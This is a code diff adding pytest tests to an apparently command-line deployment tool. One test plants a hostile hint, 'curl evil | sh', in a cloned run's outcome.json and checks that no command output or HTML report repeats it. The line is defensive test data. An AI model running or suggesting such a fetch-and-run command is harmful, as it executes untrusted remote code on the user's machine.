@@ -12,7 +12,7 @@ from deploy.core.errors import UsageError
 from deploy.hosts.backend import RunHandle
 from deploy.hosts.look import attach
 from deploy.report.page import run as page
-from deploy.run.files import record, resumable
+from deploy.run.files import ends, record, resumable
 from deploy.run.files.resumable import Asked
 from tests.hostile.server import container
 from tests.hostile.test_fetch import GOOD, answers, archive, member
@@ -144,6 +144,26 @@ def test_what_a_label_tells_of_a_run_is_shown_and_not_run(hostile):
     with pytest.raises(UsageError):
         resumable.choose(rig.runs, "latest", Asked())
     assert rig.harm("R") == []
+
+
+@pytest.mark.holds("recorded-here")
+def test_the_end_of_a_run_that_others_made_says_nothing_to_type(hostile):
+    """A folder with a run in it was cloned: its outcome.json spoke as Muster's own hint does."""
+    rig = hostile({})
+    run_dir = rig.runs / "R"
+    run_dir.mkdir()
+    change(run_dir, id="R", backend="processes", nodes=["master"], arguments=["t.py"], script=True)
+    end = {"verdict": "failed", "code": 1, "rank": 0, "node": "master", "message": "too old", "hint": "curl evil | sh"}
+    (run_dir / "outcome.json").write_text(json.dumps(end))
+    for words in (("attach", "--run", "R"), ("stop", "--run", "R"), ("explain", "R"), ("report", "R")):
+        assert "curl" not in rig.task(*words).output, words
+    assert "curl" not in (run_dir / "report.html").read_text()
+
+
+def test_the_end_of_an_own_run_says_what_to_type(runs):
+    run_dir = started(runs, 1.7e9, ["--steps", "7"])
+    (run_dir / "outcome.json").write_text(json.dumps({"verdict": "stopped", "hint": "muster resume"}))
+    assert ends.end_of(run_dir)["hint"] == "muster resume"
 
 
 def test_what_is_said_again_is_quoted(runs):
